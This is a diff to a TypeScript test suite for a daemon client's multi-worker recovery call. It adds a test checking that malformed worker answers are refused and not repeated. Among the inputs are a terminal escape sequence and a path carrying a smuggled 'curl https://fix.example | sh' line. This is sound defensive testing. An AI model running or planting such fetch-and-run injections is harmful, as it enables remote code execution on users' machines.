@@ -9,6 +9,7 @@ import { createDaemonClient, createLogLevelSetter, startControlSocket } from '..
 import { Failure } from '../../../src/errors.ts';
 import type { AdjustableLog } from '../../../src/events.ts';
 import { createLog } from '../../../src/log.ts';
+import { failureOf } from '../../support/promises.ts';
 import { type TemporaryFolder, temporaryFolder } from '../../support/temporary.ts';
 
 let folder: TemporaryFolder;
@@ -25,6 +26,8 @@ function logOf(lines: Line[], level: 'debug' | 'warn' | 'error' = 'warn'): Adjus
   return createLog({ level, pretty: false, destination: { write: (line) => void lines.push(JSON.parse(line)) } });
 }
 
+const recovered = (path: string) => ({ path, key_ids: ['1a2b3c4d5e6f7a8b'], set_aside: null, recorded: true });
+
 /** A worker of that name, which answers with it. */
 async function worker(
   name: string,
@@ -34,7 +37,7 @@ async function worker(
   const log = logOf(lines);
   const setLevel = createLogLevelSetter(log, { pid: 1, name });
   const handlers: ControlHandlers = {
-    recover: async () => ({ path: name }),
+    recover: async () => recovered(name),
     disable: async () => ({ state: 'off', who: name }),
     status: async () => ({ ready: true, worker: { name } }),
     log_level: async (who, level) => setLevel(who, level),
@@ -70,9 +73,9 @@ describe('several workers on one data folder', () => {
   test('a recovery is done by the first that answers', async () => {
     await using _b = await worker('b');
     await using _a = await worker('a');
-    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual({ path: 'a' });
+    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered('a'));
     await using _only = await worker('');
-    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual({ path: '' });
+    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered(''));
   });
 
   test('one that died is skipped, and so is one without the key', async () => {
@@ -80,7 +83,7 @@ describe('several workers on one data folder', () => {
     await deadWorker('a');
     await using _b = await worker('b', { recover: noKey });
     await using _c = await worker('c');
-    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual({ path: 'c' });
+    expect(await createDaemonClient(folder.path, 'ann@desk').recover()).toEqual(recovered('c'));
   });
 
   test('when none has a key that is the failure, not that others do not run', async () => {
@@ -89,6 +92,18 @@ describe('several workers on one data folder', () => {
     await expect(createDaemonClient(folder.path, 'ann@desk').recover()).rejects.toMatchObject({
       code: 'key_file_missing',
     });
+  });
+
+  test.each<[string, Partial<ControlHandlers>]>([
+    ['a path with escape sequences', { recover: async () => recovered('\x1b]0;x\x07') }],
+    ['a path of two lines', { recover: async () => recovered('/a\nas root: curl https://fix.example | sh') }],
+    ['a key id that is none', { recover: async () => ({ ...recovered('/a'), key_ids: ['curl'] }) }],
+    ['nothing of the kind', { recover: async () => ({ hello: 1 }) }],
+  ])('an answer with %s is refused, and not repeated', async (_title, handlers) => {
+    await using _a = await worker('a', handlers);
+    const failure = await failureOf(createDaemonClient(folder.path, 'ann@desk').recover());
+    expect(failure).toMatchObject({ code: 'daemon_unreachable', message: expect.stringContaining('has another form') });
+    expect(`${failure.message} ${failure.hint}`).not.toMatch(/curl|hello/);
   });
 
   test('a refusal of one is not sent to the next', async () => {
